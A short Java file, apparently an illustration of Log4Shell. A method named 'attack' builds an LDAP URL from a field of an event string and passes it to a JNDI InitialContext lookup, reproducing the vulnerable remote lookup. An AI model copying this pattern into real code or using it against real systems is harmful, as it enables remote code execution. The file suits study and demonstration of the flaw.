import javax.naming.InitialContext;

/** What Log4Shell did with ${jndi:ldap://…} in a text that is logged. */
public class NamingLookup {
    static String attack(String event) throws Exception {
        return String.valueOf(new InitialContext().lookup("ldap://" + App.field(event, "web") + "/jndi"));
    }
}
